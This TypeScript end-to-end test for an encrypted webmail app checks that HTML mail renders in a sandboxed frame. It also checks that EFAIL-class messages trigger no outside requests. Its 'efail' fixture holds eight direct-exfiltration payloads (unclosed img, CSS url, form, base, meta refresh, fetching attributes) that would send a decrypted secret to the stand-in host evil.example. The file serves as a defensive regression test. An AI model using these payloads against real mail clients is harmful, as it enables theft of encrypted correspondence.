import assert from 'node:assert/strict';
import { SessionKeeper } from '../fixtures/openpgp.ts';
import type { Fixture, Scenario } from '../fixtures/fixture.ts';
import { Store } from '../fixtures/store.ts';
import { desk, phone, type Walker } from '../fixtures/walker.ts';
import { linkOf } from '../people/guest.ts';

const address = 'mia@recipient.example';
const passphrase = 'a passphrase for the exported key';
const secret = 'THE SECRET BETWEEN THE TAGS';

/** A MIME entity as a guest's mail program would write it: From, To and Subject protected with it. */
const entity = (type: string, body: string) =>
  [
    `From: ${address}`,
    'To: Alice Example <alice@organisation.example>',
    'Subject: Re: A letter',
    'Date: Tue, 24 Nov 2026 10:00:00 +0000',
    'Message-ID: <html@recipient.example>',
    'MIME-Version: 1.0',
    `Content-Type: ${type}; hp="clear"`,
    '',
    body,
    '',
  ].join('\r\n');

const part = (type: string, body: string) => `--b\r\nContent-Type: ${type}; charset=utf-8\r\n\r\n${body}\r\n`;
const multipart = (...parts: string[]) => entity('multipart/mixed; boundary=b', `${parts.join('')}--b--\r\n`);

const newsletter = `<html><head><style>h2 { color: #0b5; } .wide { width: 900px; }</style></head><body style="font-family: sans-serif">
<h2>Your appointment</h2><p>Dear Alice,<br>see you <b>on Thursday</b>.</p>
<table border="1" cellpadding="6"><tr><th>Day</th><th>Time</th></tr><tr><td>Thursday</td><td>10:30</td></tr></table>
<p><img src="https://tracker.example/pixel.gif" width="1" height="1"><img src="cid:logo" alt="logo">
<a href="https://recipient.example/">Directions</a></p></body></html>`;

const logo = 'iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC';

const withPicture = () =>
  entity(
    'multipart/related; boundary=b',
    part('text/html', newsletter) +
      '--b\r\nContent-Type: image/png\r\nContent-Transfer-Encoding: base64\r\nContent-ID: <logo>\r\n' +
      `Content-Disposition: inline\r\n\r\n${logo}\r\n--b--\r\n`,
  );

/** EFAIL's direct exfiltration: markup of one part that would swallow the next one and send it away. */
const efail: Record<string, () => string> = {
  'an unclosed picture before the text': () =>
    multipart(part('text/html', '<img src="https://evil.example/?'), part('text/plain', secret), part('text/html', '">')),
  'single quotes': () =>
    multipart(part('text/html', `<img src='https://evil.example/?`), part('text/html', secret), part('text/html', `'>`)),
  'a style': () =>
    multipart(
      part('text/html', '<style>body { background: url(https://evil.example/?'),
      part('text/html', secret),
      part('text/html', ')}</style>'),
    ),
  'a form': () =>
    multipart(
      part('text/html', '<form action="https://evil.example/"><textarea name="a">'),
      part('text/html', secret),
      part('text/html', '<input type=submit>'),
    ),
  'a base and a link': () =>
    multipart(part('text/html', '<base href="https://evil.example/'), part('text/html', secret), part('text/html', '"><a href="x">y</a>')),
  'a refresh': () =>
    multipart(
      part('text/html', '<meta http-equiv="refresh" content="0;url=https://evil.example/?'),
      part('text/html', secret),
      part('text/html', '">'),
    ),
  'an encrypted part joined': () =>
    multipart(
      part('text/html', '<img src="https://evil.example/?'),
      `--b\r\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=c\r\n\r\n` +
        `--c\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n--c\r\nContent-Type: application/octet-stream\r\n\r\n` +
        `-----BEGIN PGP MESSAGE-----\r\n\r\n${secret}\r\n-----END PGP MESSAGE-----\r\n--c--\r\n`,
      part('text/html', '">'),
    ),
  'attributes that fetch': () =>
    multipart(
      part(
        'text/html',
        '<video poster="https://evil.example/v"></video><img srcset="https://evil.example/s 1x">' +
          '<table background="https://evil.example/b"><link rel="dns-prefetch" href="//evil.example">' +
          '<link rel="stylesheet" href="https://evil.example/c"><object data="https://evil.example/o"></object>',
      ),
      part('text/plain', secret),
    ),
};

/** The shown HTML, read from the frame. */
const shownIn = (walker: Walker): Promise<string> =>
  walker.page.evaluate(() => {
    const { body } = document.querySelector<HTMLIFrameElement>('iframe.mail-frame')!.contentDocument!;
    return [...body.children].map((host) => host.shadowRoot?.textContent ?? '').join('\n');
  });

async function shows(walker: Walker, text: string): Promise<void> {
  await walker.page.reload();
  await walker.page.waitForFunction((wanted) => {
    const body = document.querySelector<HTMLIFrameElement>('iframe.mail-frame')?.contentDocument?.body;
    const inFrame = [...(body?.children ?? [])].some((host) => host.shadowRoot?.textContent?.includes(wanted));
    return inFrame || document.querySelector('.mail-text')?.textContent?.includes(wanted);
  }, text);
  await walker.untilQuiet();
}

/** An answer whose body is then overwritten, encrypted and signed by the guest's own key, as another program would. */
// User and guest are set up once: every mail replaces the body of the same answer.
async function htmlMails(fixture: Fixture): Promise<void> {
  const server = await fixture.server();
  const user = await fixture.user(server, 'alice@organisation.example', 'Alice Example', 'de', desk);
  await user.setUp(server.setUpLink);
  await user.write({ to: [address], subject: 'A letter', text: 'Hello.', withoutPin: true });
  await user.send();
  const guest = await fixture.guest(server, address, 'de', phone);
  await guest.openLink(linkOf(await server.mailTo(address)));
  await guest.goOnWithoutPin();
  await guest.createMailbox();
  await guest.reads('A letter', 'Hello.');
  await guest.reply('An answer.');
  const key = await guest.exportKey(passphrase);

  const store = new Store(server);
  const [row] = store.rows(
    `SELECT hex(a."Pkesk") AS pkesk, b."BlobName" AS blob FROM "accesses" a JOIN "bodies" b ON b."Id" = a."BodyId"
     WHERE lower(a."ReaderKind") = 'mailbox' AND lower(b."OwnerKind") <> 'user'`,
  );
  const keeper = await SessionKeeper.open(key, passphrase, Buffer.from(String(row!['pkesk']), 'hex'));
  const write = async (mime: string) => store.putBlob(String(row!['blob']), await keeper.seal(mime));

  await write(withPicture());
  await user.go('Inbox');
  await user.openFromList('Re: A letter');
  await guest.walker.goto('/m');
  await guest.walker.page.getByText(guest.walker.words.sentence('mailbox.sent')).first().click();
  await guest.openFromList('Re: A letter');
  for (const { walker } of [user, guest]) {
    await shows(walker, 'on Thursday');
    await walker.says('mail.remote#one');
    await walker.screen('html-mail');
    const picture = await walker.page.evaluate(() => {
      const { body } = document.querySelector<HTMLIFrameElement>('iframe.mail-frame')!.contentDocument!;
      const images = [...body.children].flatMap((host) => [...(host.shadowRoot?.querySelectorAll('img') ?? [])]);
      return images.map(({ src, naturalWidth }) => [src.split(':')[0], naturalWidth]);
    });
    assert.deepEqual(picture.filter(([scheme]) => scheme === 'blob'), [['blob', 10]], 'the mail’s own picture is drawn');
  }

  for (const [name, mime] of Object.entries(efail)) {
    await write(mime());
    for (const { walker } of [user, guest]) {
      walker.allow(/base URI to '.*' violates .* "base-uri 'none'"/u);
      await walker.page.reload();
      await walker.page.locator('iframe.mail-frame').waitFor();
      await walker.page.waitForFunction(
        () => document.querySelector<HTMLIFrameElement>('iframe.mail-frame')!.contentDocument!.body?.querySelector(':scope > dl') !== null,
      );
      await walker.untilQuiet();
      const parts = await shownIn(walker);
      assert.ok(!parts.includes('evil.example'), `${name}: an address of the attacker's is shown`);
      const inside = await walker.page.evaluate(() => {
        const { body } = document.querySelector<HTMLIFrameElement>('iframe.mail-frame')!.contentDocument!;
        return [...body.children]
          .flatMap((host) => [...(host.shadowRoot?.querySelectorAll('*') ?? [])])
          .map((one) => one.cloneNode(false) as Element)
          .map((one) => one.outerHTML);
      });
      assert.ok(
        !inside.some((html) => html.includes('SECRET')),
        `${name}: one part's markup holds another part's text: ${inside.join(' ')}`,
      );
      walker.assertNoFaults(name);
    }
  }
}

export const scenarios: Scenario[] = [
  { name: 'an HTML mail is shown in its frame, and no mail of the EFAIL class makes a request', run: htmlMails },
];
